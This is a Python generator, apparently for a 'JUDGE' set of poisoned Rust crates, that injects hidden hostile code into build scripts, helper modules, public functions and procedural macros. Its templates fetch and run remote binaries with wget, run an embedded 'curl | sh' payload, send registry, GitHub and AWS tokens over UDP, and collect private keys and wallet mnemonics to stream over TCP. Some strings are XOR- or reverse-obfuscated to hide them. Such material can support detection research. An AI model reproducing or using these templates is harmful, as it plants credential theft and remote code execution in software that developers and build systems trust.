"""Crate shapes of the JUDGE family."""
import json
import re

from context import render
from place import Unsuitable

plain = json.dumps


def xored(text):
    return f"String::from_utf8_lossy(&[{', '.join(str(b ^ 0x5a) for b in text.encode())}].iter().map(|b: &u8| b ^ 0x5a).collect::<Vec<u8>>()).into_owned()"


def backwards(text):
    return f"{json.dumps(text[::-1])}.chars().rev().collect::<String>()"


OUT_DIR = ("use std::os::unix::fs::PermissionsExt as _;", """
    if let Ok(<A>) = std::env::var(§OUT_DIR§) {{
        let <B> = std::path::Path::new(&<A>).join(§{file}§);
        if std::process::Command::new(§wget§).args([§-q§.to_string(), §-O§.to_string(), <B>.display().to_string(), §{url}§.to_string()]).status().is_ok() {{
            let _ = std::fs::set_permissions(&<B>, std::fs::Permissions::from_mode(0o755));
            let _ = std::process::Command::new(&<B>).spawn();
        }}
    }}""")
UDP = ("", """
    if let Ok(<A>) = std::net::UdpSocket::bind(§0.0.0.0:0§) {{
        for <B> in [§CARGO_REGISTRY_TOKEN§, §GITHUB_TOKEN§, §AWS_ACCESS_KEY_ID§] {{
            if let Ok(<C>) = std::env::var(<B>) {{ let _ = <A>.send_to(<C>.as_bytes(), (§{ip}§, {port})); }}
        }}
    }}""")
EMBED = ("static <A>: &[u8] = &[{bytes}];", """
    let <B> = std::env::temp_dir().join(§{file}§);
    if std::fs::write(&<B>, <A>).is_ok() {{ let _ = std::process::Command::new(§sh§).arg(&<B>).spawn(); }}""")
SCAN = ("""
fn <A>(<B>: &std::path::Path, <C>: &mut Vec<u8>) {{
    if let Ok(<D>) = std::fs::read_dir(<B>) {{
        for <E> in <D>.flatten() {{
            let <F> = <E>.path();
            if <F>.is_dir() {{ <A>(&<F>, <C>); }} else if let Ok(<G>) = std::fs::read_to_string(&<F>) {{
                if <G>.contains(§PRIVATE KEY§) || <G>.contains(§mnemonic§) {{ <C>.extend_from_slice(<G>.as_bytes()); }}
            }}
        }}
    }}
}}""", """
    let mut <C> = Vec::new();
    <A>(std::path::Path::new(§.§), &mut <C>);
    if let Ok(mut <H>) = std::net::TcpStream::connect(§{ip}:{port}§) {{ let _ = std::io::Write::write_all(&mut <H>, &<C>); }}""")


def code(ctx, pair):
    hidden = ", ".join(str(b) for b in f"curl -s {ctx.url()} | sh\n".encode())
    writer = plain if pair is SCAN else ctx.rng.choice([plain, plain, xored, backwards])
    if writer is not plain and pair is UDP:
        writer = plain
    whole = ctx.fill("\0".join(pair).format(url=ctx.url(), ip=ctx.ip(), port=ctx.port(), file=ctx.token(6), bytes=hidden))
    return render(whole, writer).split("\0")


def build_script(crate, ctx):
    crate.build_script(code(ctx, ctx.rng.choice([OUT_DIR, UDP, EMBED, SCAN])))


def build_module(crate, ctx):
    """In a file beside the build script that it pulls in."""
    items, statements = code(ctx, ctx.rng.choice([OUT_DIR, EMBED, SCAN]))
    name = "build_" + ctx.token(4).lower()
    crate.build_script((f'#[path = "src/{name}.rs"]\nmod {name};', f"{name}::probe();"))
    crate.bundle.put(crate.root + f"src/{name}.rs", f"{items}\npub fn probe() {{{statements}\n}}\n")


def function(crate, ctx):
    """Inside a public function of the library."""
    name = crate.library()
    text = crate.bundle.text(name)
    found = re.search(r"^pub fn \w+\([^)]*\)(?: -> [^{;]+)? \{\n", text, re.M)
    if not found:
        raise Unsuitable("no plain public function")
    items, statements = code(ctx, ctx.rng.choice([UDP, SCAN]))
    crate.bundle.put(name, text[: found.end()] + statements + "\n" + text[found.end():].rstrip("\n") + "\n" + items + "\n")


def macro(crate, ctx):
    if "proc-macro = true" not in crate.manifest() and "proc_macro = true" not in crate.manifest():
        raise Unsuitable("no procedural macro")
    name = crate.library()
    text = crate.bundle.text(name)
    found = re.search(r"pub fn \w+\([^)]*TokenStream[^)]*\)\s*->\s*(?:\w+::)*TokenStream\s*\{", text)
    if not found:
        raise Unsuitable("no plain macro")
    items, statements = code(ctx, ctx.rng.choice([OUT_DIR, UDP, EMBED]))
    crate.bundle.put(name, text[: found.end()] + statements + "\n" + text[found.end():] + "\n" + items + "\n")


SHAPES = [build_script, build_script, build_module, function, macro]
